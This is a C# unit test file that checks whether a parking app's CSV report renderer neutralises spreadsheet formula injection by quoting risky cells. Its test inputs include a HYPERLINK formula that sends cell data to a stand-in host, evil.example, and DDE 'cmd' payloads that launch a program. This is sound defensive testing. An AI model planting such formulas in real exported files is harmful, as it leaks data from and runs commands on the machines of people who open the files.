using ParkingGrains.WebApi.Reports;

namespace ParkingGrains.WebApi.Tests.Reports;

/// <summary>
/// Spreadsheet formula injection (OWASP "CSV Injection"): text that a spreadsheet would evaluate is prefixed with a
/// single quote; real numbers, negative ones included, stay numbers.
/// </summary>
public sealed class CsvInjectionTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1,2)", "'@SUM(1,2)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("-5", "'-5")]
    [InlineData("Riverside Garage", "Riverside Garage")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void TextCellsThatStartAFormulaGetALeadingQuote(string text, string expected)
    {
        Assert.Equal(expected, CsvReportRenderer.Field(ReportCell.Label(text)));
    }

    [Theory]
    [InlineData("-5000")]
    [InlineData("-0.5")]
    [InlineData("25000")]
    [InlineData("0")]
    public void NumericCellsKeepTheirSign(string number)
    {
        Assert.Equal(number, CsvReportRenderer.Field(new ReportCell(number, number, Numeric: true)));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("-1+1")]
    [InlineData("+5")]
    [InlineData("-")]
    [InlineData("@A1")]
    public void ACellMarkedNumericThatIsNotANumberIsStillNeutralised(string text)
    {
        Assert.Equal("'" + text, CsvReportRenderer.Field(new ReportCell(text, text, Numeric: true)));
    }

    [Fact]
    public void TheWholeFileIsNeutralisedAndStillRfc4180()
    {
        var report = new ReportDocument(
            "Revenue", "t", "s", "p", "UTC",
            [new ReportColumn("Lot"), new ReportColumn("Amount", Numeric: true), new ReportColumn("Currency", CsvOnly: true)],
            [
                [new ReportCell("Evil", "=cmd|'/C calc'!A0,\"x\""), new ReportCell("-5.000 ₫", "-5000", Numeric: true), ReportCell.Label("VND")],
                [ReportCell.Label("@lot"), new ReportCell("12", "12", Numeric: true), ReportCell.Label("VND")],
            ],
            [],
            "chart",
            [],
            DateTimeOffset.UnixEpoch);

        var records = Csv.Parse(CsvReportRenderer.Render(report));

        Assert.Equal(
            [
                ["Lot", "Amount", "Currency"],
                ["'=cmd|'/C calc'!A0,\"x\"", "-5000", "VND"],
                ["'@lot", "12", "VND"],
            ],
            records);
    }
}
